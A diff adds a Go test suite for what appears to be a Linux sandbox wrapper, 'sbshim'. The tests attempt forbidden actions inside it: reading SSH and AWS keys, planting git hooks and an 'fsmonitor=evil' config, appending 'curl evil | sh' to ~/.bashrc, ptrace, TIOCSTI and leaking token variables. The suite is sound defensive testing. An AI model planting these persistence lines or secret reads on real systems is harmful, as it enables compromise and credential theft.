@@ -1,0 +1,628 @@
+package main
+
+import (
+	"bufio"
+	"encoding/json"
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+)
+
+// These tests build the real sbshim and the attempt program, run them as
+// the user running the tests (root in CI, and again as an unprivileged
+// user), and prove each promise of the sandbox by attempting the forbidden
+// thing inside it.
+
+// binDir holds the built binaries. It lies outside /tmp, which is private
+// inside the sandbox, so that the sandbox can run them.
+var binDir string
+
+func TestMain(m *testing.M) {
+	os.Exit(testMain(m))
+}
+
+func testMain(m *testing.M) int {
+	dir, err := os.MkdirTemp(testRoot(), "sbshim-bin-")
+	if err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 1
+	}
+	defer os.RemoveAll(dir)
+	if err := os.Chmod(dir, 0o755); err != nil {
+		fmt.Fprintln(os.Stderr, err)
+		return 1
+	}
+	for name, pkg := range map[string]string{"sbshim": ".", "attempt": "../../testdata/attempt"} {
+		cmd := exec.Command("go", "build", "-o", filepath.Join(dir, name), pkg)
+		cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
+		if out, err := cmd.CombinedOutput(); err != nil {
+			fmt.Fprintf(os.Stderr, "build %s: %v\n%s", name, err, out)
+			return 1
+		}
+	}
+	binDir = dir
+	return m.Run()
+}
+
+// testRoot is where test homes and binaries live: not under /tmp, which the
+// sandbox replaces with a private one.
+func testRoot() string {
+	if d := os.Getenv("SBSHIM_TEST_DIR"); d != "" {
+		return d
+	}
+	return "/var/tmp"
+}
+
+// box is one test's world: a home with secrets, a workspace inside it.
+type box struct {
+	t    *testing.T
+	root string
+	home string
+	ws   string
+	env  []string // extra environment for sbshim
+}
+
+func newBox(t *testing.T) *box {
+	t.Helper()
+	root, err := os.MkdirTemp(testRoot(), "sbshim-test-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(root) })
+	b := &box{t: t, root: root, home: filepath.Join(root, "home"), ws: filepath.Join(root, "home", "proj")}
+	b.mkfile(".ssh/id_rsa", "SSH-PRIVATE-KEY-SECRET")
+	b.mkfile(".aws/credentials", "[default]\naws_secret_access_key=AWS-SECRET")
+	b.mkfile(".bashrc", "# rc\n")
+	b.mkfile("proj/README", "hello\n")
+	b.mkfile("proj/.git/config", "[core]\n")
+	b.mkfile("proj/.git/hooks/README.sample", "sample\n")
+	return b
+}
+
+func (b *box) mkfile(rel, content string) string {
+	b.t.Helper()
+	p := filepath.Join(b.home, rel)
+	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+		b.t.Fatal(err)
+	}
+	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
+		b.t.Fatal(err)
+	}
+	return p
+}
+
+func (b *box) path(rel string) string { return filepath.Join(b.home, rel) }
+
+// command builds an sbshim invocation: flags, then "--", then argv.
+func (b *box) command(flags []string, argv ...string) *exec.Cmd {
+	args := append(append(append([]string{}, flags...), "--"), argv...)
+	cmd := exec.Command(filepath.Join(binDir, "sbshim"), args...)
+	cmd.Dir = b.ws
+	cmd.Env = append(filteredEnviron(), "HOME="+b.home,
+		"XDG_CONFIG_HOME="+filepath.Join(b.home, ".config"),
+		"XDG_CACHE_HOME="+filepath.Join(b.home, ".cache"),
+		"XDG_STATE_HOME="+filepath.Join(b.home, ".local/state"))
+	cmd.Env = append(cmd.Env, b.env...)
+	return cmd
+}
+
+func filteredEnviron() []string {
+	var env []string
+	for _, kv := range os.Environ() {
+		switch strings.SplitN(kv, "=", 2)[0] {
+		case "HOME", "XDG_CONFIG_HOME", "XDG_CACHE_HOME", "XDG_STATE_HOME":
+			continue
+		}
+		env = append(env, kv)
+	}
+	return env
+}
+
+// run runs sbshim and returns stdout, stderr and the exit status.
+func (b *box) run(flags []string, argv ...string) (string, string, int) {
+	b.t.Helper()
+	cmd := b.command(flags, argv...)
+	var stdout, stderr strings.Builder
+	cmd.Stdout, cmd.Stderr = &stdout, &stderr
+	err := cmd.Run()
+	code := 0
+	if ee, ok := err.(*exec.ExitError); ok {
+		code = ee.ExitCode()
+		if ws, ok := ee.Sys().(syscall.WaitStatus); ok && ws.Signaled() {
+			code = 128 + int(ws.Signal())
+		}
+	} else if err != nil {
+		b.t.Fatalf("run sbshim: %v", err)
+	}
+	return stdout.String(), stderr.String(), code
+}
+
+type outcome struct {
+	OK     bool   `json:"ok"`
+	Errno  string `json:"errno"`
+	Detail string `json:"detail"`
+}
+
+// attempt runs the attempt program inside the sandbox.
+func (b *box) attempt(flags []string, action ...string) outcome {
+	b.t.Helper()
+	stdout, stderr, code := b.run(flags, append([]string{filepath.Join(binDir, "attempt")}, action...)...)
+	var o outcome
+	if err := json.Unmarshal([]byte(strings.TrimSpace(stdout)), &o); err != nil {
+		b.t.Fatalf("attempt %v: exit %d, stdout %q, stderr %q", action, code, stdout, stderr)
+	}
+	return o
+}
+
+func (b *box) mustFail(flags []string, wantErrno string, action ...string) {
+	b.t.Helper()
+	o := b.attempt(flags, action...)
+	if o.OK {
+		b.t.Fatalf("attempt %v succeeded inside the sandbox; it must fail", action)
+	}
+	if wantErrno != "" && o.Errno != wantErrno {
+		b.t.Fatalf("attempt %v failed with %s (%s), want %s", action, o.Errno, o.Detail, wantErrno)
+	}
+}
+
+func (b *box) mustWork(flags []string, action ...string) outcome {
+	b.t.Helper()
+	o := b.attempt(flags, action...)
+	if !o.OK {
+		b.t.Fatalf("attempt %v failed inside the sandbox: %s %s", action, o.Errno, o.Detail)
+	}
+	return o
+}
+
+func TestSecretsAreUnreadable(t *testing.T) {
+	b := newBox(t)
+	for _, rel := range []string{".ssh/id_rsa", ".aws/credentials"} {
+		t.Run(rel, func(t *testing.T) {
+			o := b.attempt(nil, "read", b.path(rel))
+			if o.OK || strings.Contains(o.Detail, "SECRET") {
+				t.Fatalf("read %s inside the sandbox: %+v", rel, o)
+			}
+			if o.Errno != "EACCES" {
+				t.Fatalf("read %s: errno %s, want EACCES", rel, o.Errno)
+			}
+		})
+	}
+	// Something ordinary in the same home stays readable.
+	if o := b.mustWork(nil, "read", b.path(".bashrc")); o.Detail != "# rc\n" {
+		t.Fatalf("read ~/.bashrc: %q", o.Detail)
+	}
+}
+
+func TestWritesStayInTheWorkspace(t *testing.T) {
+	b := newBox(t)
+	b.mustWork(nil, "write", filepath.Join(b.ws, "made-inside"), "data")
+	st, err := os.Stat(filepath.Join(b.ws, "made-inside"))
+	if err != nil {
+		t.Fatalf("the file written inside the workspace is not on the host: %v", err)
+	}
+	if uid := st.Sys().(*syscall.Stat_t).Uid; int(uid) != os.Getuid() {
+		t.Fatalf("file belongs to uid %d, want the user's own %d", uid, os.Getuid())
+	}
+	for _, p := range []string{b.path("outside"), "/etc/sbshim-test-write", "/usr/sbshim-test-write"} {
+		b.mustFail(nil, "EROFS", "write", p, "x")
+		if _, err := os.Stat(p); err == nil {
+			t.Fatalf("%s was created on the host", p)
+		}
+	}
+	// /tmp is private: writable inside, invisible outside.
+	name := fmt.Sprintf("/tmp/sbshim-private-%d", time.Now().UnixNano())
+	b.mustWork(nil, "write", name, "x")
+	if _, err := os.Stat(name); err == nil {
+		os.Remove(name)
+		t.Fatalf("%s written inside the sandbox appeared in the host's /tmp", name)
+	}
+}
+
+func TestProtectedPathsCannotBeChanged(t *testing.T) {
+	b := newBox(t)
+	ws := b.ws
+	cases := []struct {
+		name   string
+		action []string
+		check  string // host path that must be unchanged or absent
+	}{
+		{"create hook", []string{"write", ws + "/.git/hooks/pre-commit", "#!/bin/sh\n"}, ws + "/.git/hooks/pre-commit"},
+		{"change git config", []string{"append", ws + "/.git/config", "[core]\nfsmonitor=evil\n"}, ws + "/.git/config"},
+		{"replace git config", []string{"rename", ws + "/README", ws + "/.git/config"}, ws + "/.git/config"},
+		{"remove hooks", []string{"rename", ws + "/.git/hooks", ws + "/hooks-gone"}, ws + "/.git/hooks/README.sample"},
+		{"create .mcp.json", []string{"write", ws + "/.mcp.json", "{}"}, ws + "/.mcp.json"},
+		{"create .vscode", []string{"mkdir", ws + "/.vscode"}, ws + "/.vscode"},
+		{"rename onto .mcp.json", []string{"rename", ws + "/README", ws + "/.mcp.json"}, ws + "/.mcp.json"},
+		{"symlink named .mcp.json", []string{"symlink", "/etc/passwd", ws + "/.mcp.json"}, ws + "/.mcp.json"},
+		{"hard link to git config", []string{"link", ws + "/.git/config", ws + "/cfg-link"}, ws + "/cfg-link"},
+		{"change ~/.bashrc", []string{"append", b.path(".bashrc"), "curl evil | sh\n"}, b.path(".bashrc")},
+	}
+	before := snapshot(t, b.home)
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			b.mustFail(nil, "", c.action...)
+		})
+	}
+	// Through links planted in the workspace.
+	if err := os.Symlink(".git/config", filepath.Join(ws, "planted-config")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(".mcp.json", filepath.Join(ws, "planted-mcp")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(".git/hooks/post-checkout", filepath.Join(ws, "planted-hook")); err != nil {
+		t.Fatal(err)
+	}
+	t.Run("write through symlink to git config", func(t *testing.T) {
+		b.mustFail(nil, "", "append", filepath.Join(ws, "planted-config"), "evil")
+	})
+	t.Run("create through symlink to .mcp.json", func(t *testing.T) {
+		b.mustFail(nil, "", "write", filepath.Join(ws, "planted-mcp"), "{}")
+	})
+	t.Run("create hook through symlink", func(t *testing.T) {
+		b.mustFail(nil, "", "write", filepath.Join(ws, "planted-hook"), "#!/bin/sh\n")
+	})
+	after := snapshot(t, b.home)
+	for p, v := range before {
+		if after[p] != v {
+			t.Errorf("%s changed: %q → %q", p, v, after[p])
+		}
+	}
+	for p, v := range after {
+		if _, ok := before[p]; !ok && !strings.HasPrefix(filepath.Base(p), "planted-") && !strings.Contains(p, "/.cache/") {
+			t.Errorf("%s appeared: %q", p, v)
+		}
+	}
+}
+
+// snapshot maps every file under dir to its content (symlinks to their
+// target).
+func snapshot(t *testing.T, dir string) map[string]string {
+	t.Helper()
+	m := map[string]string{}
+	err := filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
+		if err != nil {
+			return err
+		}
+		switch {
+		case fi.Mode()&os.ModeSymlink != 0:
+			l, _ := os.Readlink(p)
+			m[p] = "-> " + l
+		case fi.Mode().IsRegular():
+			c, _ := os.ReadFile(p)
+			m[p] = string(c)
+		case fi.IsDir():
+			m[p] = "dir"
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return m
+}
+
+func TestProcShowsOnlyTheSandbox(t *testing.T) {
+	b := newBox(t)
+	o := b.mustWork(nil, "pids")
+	pids := strings.Fields(o.Detail)
+	if len(pids) > 4 {
+		t.Fatalf("/proc inside shows %d processes (%v); want only the sandbox's", len(pids), pids)
+	}
+	for _, p := range pids {
+		if p == strconv.Itoa(os.Getpid()) && os.Getpid() > 4 {
+			t.Fatalf("the test's own pid %s is visible inside", p)
+		}
+	}
+}
+
+func TestHostProcessesAreUnreachable(t *testing.T) {
+	b := newBox(t)
+	sleeper := exec.Command("sleep", "60")
+	if err := sleeper.Start(); err != nil {
+		t.Fatal(err)
+	}
+	defer func() { _ = sleeper.Process.Kill(); _ = sleeper.Wait() }()
+	pid := strconv.Itoa(sleeper.Process.Pid)
+	b.mustFail(nil, "", "kill", pid)
+	b.mustFail(nil, "", "ptrace", pid)
+	// Inside, the sandbox's own init cannot be traced either.
+	b.mustFail(nil, "EPERM", "ptrace", "1")
+}
+
+func TestDangerousSyscallsFail(t *testing.T) {
+	b := newBox(t)
+	for _, action := range [][]string{{"tiocsti"}, {"io-uring"}, {"userns"}, {"mount", "/tmp"}} {
+		t.Run(action[0], func(t *testing.T) { b.mustFail(nil, "EPERM", action...) })
+	}
+}
+
+// serveUnix serves a greeting on a unix socket, as a host service would.
+func serveUnix(t *testing.T, path string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	l, err := net.Listen("unix", path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { l.Close() })
+	go func() {
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			_, _ = c.Write([]byte("host-service"))
+			c.Close()
+		}
+	}()
+}
+
+func TestHostUnixSocketsAreUnreachable(t *testing.T) {
+	b := newBox(t)
+	sock := b.path("run/docker.sock")
+	serveUnix(t, sock)
+	b.mustFail(nil, "EACCES", "connect-unix", sock)
+	// Listed sockets stay reachable.
+	if o := b.mustWork([]string{"--allow-unix-socket", sock}, "connect-unix", sock); o.Detail != "host-service" {
+		t.Fatalf("allowed socket answered %q", o.Detail)
+	}
+}
+
+func TestNetworkModes(t *testing.T) {
+	b := newBox(t)
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer l.Close()
+	go func() {
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			c.Close()
+		}
+	}()
+	hostNS, err := os.Readlink("/proc/self/ns/net")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Run("none", func(t *testing.T) {
+		b.mustFail(nil, "", "connect-tcp", l.Addr().String())
+		if o := b.mustWork(nil, "netns"); o.Detail == hostNS {
+			t.Fatalf("network mode none shares the host's network namespace %s", hostNS)
+		}
+	})
+	t.Run("host", func(t *testing.T) {
+		b.mustWork([]string{"--net", "host"}, "connect-tcp", l.Addr().String())
+		if o := b.mustWork([]string{"--net", "host"}, "netns"); o.Detail != hostNS {
+			t.Fatalf("network mode host: namespace %s, want the host's %s", o.Detail, hostNS)
+		}
+	})
+}
+
+func TestEnvironmentSecretsAreDropped(t *testing.T) {
+	b := newBox(t)
+	b.env = []string{"FOO_TOKEN=t1", "AWS_SECRET_ACCESS_KEY=t2", "SSH_AUTH_SOCK=/run/agent", "MY_API_KEY=t3",
+		"GITHUB_TOKEN=t4", "DB_PASSWORD=t5", "PLAIN_SETTING=keep"}
+	env := b.mustWork(nil, "env").Detail
+	for _, name := range []string{"FOO_TOKEN", "AWS_SECRET_ACCESS_KEY", "SSH_AUTH_SOCK", "MY_API_KEY", "GITHUB_TOKEN", "DB_PASSWORD"} {
+		if strings.Contains(env, name+"=") {
+			t.Errorf("%s reached the sandbox", name)
+		}
+	}
+	if !strings.Contains(env, "PLAIN_SETTING=keep") {
+		t.Errorf("an ordinary variable was dropped")
+	}
+	env = b.mustWork([]string{"--env-pass", "FOO_TOKEN"}, "env").Detail
+	if !strings.Contains(env, "FOO_TOKEN=t1") {
+		t.Errorf("--env-pass FOO_TOKEN did not pass it")
+	}
+}
+
+func TestKillNineLeavesNothing(t *testing.T) {
+	b := newBox(t)
+	token := fmt.Sprintf("%d.%d", 1000+os.Getpid()%1000, time.Now().UnixNano()%1000000)
+	cmd := b.command(nil, filepath.Join(binDir, "attempt"), "sleep-tree", token)
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	// sbshim, the attempt program and its three sleeps.
+	waitFor(t, "the sandboxed processes to start", func() bool { return len(processesWith(token)) >= 5 })
+	if err := cmd.Process.Signal(syscall.SIGKILL); err != nil {
+		t.Fatal(err)
+	}
+	_ = cmd.Wait()
+	waitFor(t, "every sandboxed process to be gone", func() bool { return len(processesWith(token)) == 0 })
+}
+
+// processesWith lists the pids whose command line contains token.
+func processesWith(token string) []string {
+	ents, _ := os.ReadDir("/proc")
+	var pids []string
+	for _, e := range ents {
+		if _, err := strconv.Atoi(e.Name()); err != nil {
+			continue
+		}
+		cl, err := os.ReadFile("/proc/" + e.Name() + "/cmdline")
+		if err == nil && strings.Contains(string(cl), token) {
+			pids = append(pids, e.Name())
+		}
+	}
+	return pids
+}
+
+// waitFor polls cond for up to ten seconds; it bounds a wait, it times
+// nothing.
+func waitFor(t *testing.T, what string, cond func() bool) {
+	t.Helper()
+	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
+		if cond() {
+			return
+		}
+	}
+	t.Fatalf("timed out waiting for %s", what)
+}
+
+func TestExitStatus(t *testing.T) {
+	b := newBox(t)
+	cases := []struct {
+		argv []string
+		want int
+	}{
+		{[]string{"true"}, 0},
+		{[]string{"sh", "-c", "exit 7"}, 7},
+		{[]string{"sh", "-c", "kill -TERM $$"}, 128 + 15},
+		{[]string{"sh", "-c", "kill -KILL $$"}, 128 + 9},
+		{[]string{"no-such-command-anywhere"}, 127},
+		{[]string{"/no/such/path"}, 127},
+		{[]string{"/etc/passwd"}, 126},
+		{[]string{"/etc"}, 126},
+	}
+	for _, c := range cases {
+		t.Run(strings.Join(c.argv, " "), func(t *testing.T) {
+			if _, stderr, code := b.run(nil, c.argv...); code != c.want {
+				t.Fatalf("exit %d, want %d (stderr %q)", code, c.want, stderr)
+			}
+		})
+	}
+}
+
+func TestSignalsArePassedOn(t *testing.T) {
+	b := newBox(t)
+	for _, sig := range []syscall.Signal{syscall.SIGTERM, syscall.SIGINT, syscall.SIGHUP} {
+		t.Run(sig.String(), func(t *testing.T) {
+			cmd := b.command(nil, "sh", "-c", `trap 'exit 3' TERM INT HUP; echo ready; while :; do sleep 0.05; done`)
+			out, err := cmd.StdoutPipe()
+			if err != nil {
+				t.Fatal(err)
+			}
+			if err := cmd.Start(); err != nil {
+				t.Fatal(err)
+			}
+			line, _ := bufio.NewReader(out).ReadString('\n')
+			if line != "ready\n" {
+				t.Fatalf("got %q", line)
+			}
+			if err := cmd.Process.Signal(sig); err != nil {
+				t.Fatal(err)
+			}
+			err = cmd.Wait()
+			if code := cmd.ProcessState.ExitCode(); code != 3 {
+				t.Fatalf("exit %d (%v), want 3 from the command's trap", code, err)
+			}
+		})
+	}
+}
+
+func TestBadConfigIsRefused(t *testing.T) {
+	b := newBox(t)
+	badFile := b.mkfile("bad.json", `{"filesystem": {"denyRaed": ["~/x"]}}`)
+	badMode := b.mkfile("mode.json", `{"network": {"mode": "sometimes"}}`)
+	notJSON := b.mkfile("broken.json", `{"filesystem": `)
+	cases := []struct {
+		name  string
+		flags []string
+		setup func()
+		want  []string
+	}{
+		{"unknown profile", []string{"--profile", "no-such-profile"}, nil, []string{"no-such-profile"}},
+		{"unknown key", []string{"--profile", badFile}, nil, []string{badFile, "filesystem.denyRaed"}},
+		{"bad value", []string{"--profile", badMode}, nil, []string{badMode, "network.mode", "sometimes"}},
+		{"not JSON", []string{"--profile", notJSON}, nil, []string{notJSON}},
+		{"bad flag value", []string{"--net", "sometimes"}, nil, []string{"network.mode", "sometimes"}},
+		{"broken user config", nil, func() { b.mkfile(".config/sbshim/config.json", `{"env": {"pass": "PATH"}}`) },
+			[]string{"config.json", "env.pass"}},
+	}
+	marker := filepath.Join(b.ws, "command-ran")
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			if c.setup != nil {
+				c.setup()
+				defer os.Remove(b.path(".config/sbshim/config.json"))
+			}
+			_, stderr, code := b.run(c.flags, "touch", marker)
+			if code != 125 {
+				t.Fatalf("exit %d, want 125 (stderr %q)", code, stderr)
+			}
+			for _, w := range c.want {
+				if !strings.Contains(stderr, w) {
+					t.Errorf("stderr %q does not name %q", stderr, w)
+				}
+			}
+			if _, err := os.Stat(marker); err == nil {
+				t.Fatalf("the command ran despite the bad config")
+			}
+		})
+	}
+}
+
+// TestWithoutUserNamespaces runs sbshim where user namespaces cannot be
+// created (a user namespace whose max_user_namespaces is 0): it must still
+// keep secrets unreadable and writes in the workspace, say so once, and
+// refuse under --strict.
+func TestWithoutUserNamespaces(t *testing.T) {
+	if _, err := exec.LookPath("unshare"); err != nil {
+		t.Fatalf("this test needs unshare(1) from util-linux: %v", err)
+	}
+	b := newBox(t)
+	wrap := func(flags []string, argv ...string) (string, string, int) {
+		inner := b.command(flags, argv...)
+		script := `echo 0 > /proc/sys/user/max_user_namespaces && exec "$@"`
+		cmd := exec.Command("unshare", append([]string{"--user", "--map-current-user", "sh", "-c", script, "sh"}, inner.Args...)...)
+		cmd.Dir, cmd.Env = inner.Dir, inner.Env
+		var stdout, stderr strings.Builder
+		cmd.Stdout, cmd.Stderr = &stdout, &stderr
+		err := cmd.Run()
+		code := 0
+		if ee, ok := err.(*exec.ExitError); ok {
+			code = ee.ExitCode()
+		} else if err != nil {
+			t.Fatal(err)
+		}
+		return stdout.String(), stderr.String(), code
+	}
+	attempt := filepath.Join(binDir, "attempt")
+	stdout, stderr, code := wrap(nil, attempt, "read", b.path(".ssh/id_rsa"))
+	if code != 0 || strings.Contains(stdout, "SECRET") || !strings.Contains(stdout, `"ok":false`) {
+		t.Fatalf("degraded: exit %d, stdout %q, stderr %q", code, stdout, stderr)
+	}
+	if strings.Count(stderr, "user namespaces are unavailable") != 1 {
+		t.Fatalf("degraded mode must be announced once on stderr, got %q", stderr)
+	}
+	if stdout, _, _ := wrap(nil, attempt, "write", b.path("outside"), "x"); !strings.Contains(stdout, `"ok":false`) {
+		t.Fatalf("degraded: writing outside the workspace: %s", stdout)
+	}
+	if stdout, _, _ := wrap(nil, attempt, "write", filepath.Join(b.ws, "inside"), "x"); !strings.Contains(stdout, `"ok":true`) {
+		t.Fatalf("degraded: writing inside the workspace: %s", stdout)
+	}
+	if _, stderr, code := wrap([]string{"--strict"}, "true"); code != 125 || !strings.Contains(stderr, "--strict") {
+		t.Fatalf("--strict without user namespaces: exit %d, stderr %q", code, stderr)
+	}
+}
+
+// TestNested runs sbshim inside sbshim: the inner one cannot create
+// namespaces (seccomp forbids it) and stacks Landlock and seccomp instead.
+func TestNested(t *testing.T) {
+	b := newBox(t)
+	sb := filepath.Join(binDir, "sbshim")
+	stdout, stderr, code := b.run(nil, sb, "--", filepath.Join(binDir, "attempt"), "read", b.path(".ssh/id_rsa"))
+	if code != 0 || !strings.Contains(stdout, `"ok":false`) || strings.Contains(stdout, "SECRET") {
+		t.Fatalf("nested: exit %d, stdout %q, stderr %q", code, stdout, stderr)
+	}
+	stdout, stderr, code = b.run(nil, sb, "--", filepath.Join(binDir, "attempt"), "write", filepath.Join(b.ws, "nested"), "x")
+	if code != 0 || !strings.Contains(stdout, `"ok":true`) {
+		t.Fatalf("nested write in the workspace: exit %d, stdout %q, stderr %q", code, stdout, stderr)
+	}
+}
